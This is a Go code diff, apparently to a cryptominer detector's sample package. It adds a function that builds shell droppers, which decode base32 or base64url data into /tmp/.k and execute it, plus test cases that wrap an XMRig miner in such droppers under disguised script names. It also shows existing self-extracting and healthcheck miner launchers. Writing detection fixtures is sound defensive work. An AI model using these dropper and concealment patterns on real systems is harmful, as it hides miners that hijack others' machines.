@@ -3,6 +3,8 @@ package samples
 import (
 	"archive/tar"
 	"bytes"
+	"encoding/base32"
+	"encoding/base64"
 	"fmt"
 	"strings"
 
@@ -17,6 +19,30 @@ func SelfExtracting(files ...File) []byte {
 		"tail -c +%07d \"$0\" | tar xzf - -C $d && exec $d/xmrig-6.21.0/xmrig\nexit 1\n"
 	off := len(fmt.Sprintf(header, 0)) + 1
 	return append([]byte(fmt.Sprintf(header, off)), Gzip(Tar(files...))...)
+}
+
+// Basenc is a dropper that writes data from a here-document in one of
+// coreutils' basenc encodings (flag is basenc's, "--base32" or
+// "--base64url"), in lines of 76 characters as basenc writes them, and
+// runs it.
+func Basenc(flag string, data []byte) string {
+	var enc string
+	switch flag {
+	case "--base32":
+		enc = base32.StdEncoding.EncodeToString(data)
+	case "--base64url":
+		enc = base64.URLEncoding.EncodeToString(data)
+	default:
+		panic("samples: no encoding " + flag)
+	}
+	var b strings.Builder
+	b.WriteString("#!/bin/sh\nbasenc " + flag + " -d > /tmp/.k <<'EOF'\n")
+	for len(enc) > 76 {
+		b.WriteString(enc[:76] + "\n")
+		enc = enc[76:]
+	}
+	b.WriteString(enc + "\nEOF\nchmod +x /tmp/.k && exec /tmp/.k\n")
+	return b.String()
 }
 
 // Gzexed is data as Debian's gzexe leaves it: a script that unpacks the
@@ -134,8 +160,8 @@ func Cpio(files ...File) []byte {
 // wrapperPositives are miners behind the wrappers a host's own tools
 // unpack: a self-extracting script, gzexe, a Debian package, .lzma, a
 // gzip after a benign one or in its header (tail -c cuts either out),
-// frames of two formats that zstd -dc joins, and a healthcheck written
-// with JSON's escapes.
+// frames of two formats that zstd -dc joins, base32 and base64url that
+// basenc -d reads, and a healthcheck written with JSON's escapes.
 func wrapperPositives() []Case {
 	escaped := ""
 	for _, r := range "/tmp/x -o stratum+tcp://" + Pool + " -u " + Wallet {
@@ -151,6 +177,8 @@ func wrapperPositives() []Case {
 		one("xmrig-in-a-pax-record", "archive", text("/usr/share/doc/tool/notes.tar.gz", string(Gzip(InPaxRecord(XMRig())))), "MinerXMRig"),
 		one("xmrig-in-an-initramfs", "archive", text("/boot/initrd.img-6.1.0-amd64", string(Gzip(Cpio(exe("usr/bin/kworker", XMRig()))))), "MinerXMRig"),
 		one("xmrig-in-frames-of-two-formats", "archive", text("/opt/x/kworker.zst", string(InFramesOfTwoFormats(XMRig()))), "MinerXMRig"),
+		one("xmrig-base32-dropper", "archive", script("/usr/local/bin/update.sh", Basenc("--base32", XMRig())), "MinerXMRig"),
+		one("xmrig-base64url-dropper", "archive", script("/usr/local/bin/sync.sh", Basenc("--base64url", XMRig())), "MinerXMRig"),
 		{Name: "config-healthcheck-escaped", Family: "image-config",
 			Config: []byte(`{"config":{"Cmd":["nginx"],"Healthcheck":{"Test":["CMD-SHELL","` + escaped + `"]}}}`),
 			Rules:  []string{"MinerInImageConfig", "MinerCommandLine"}},
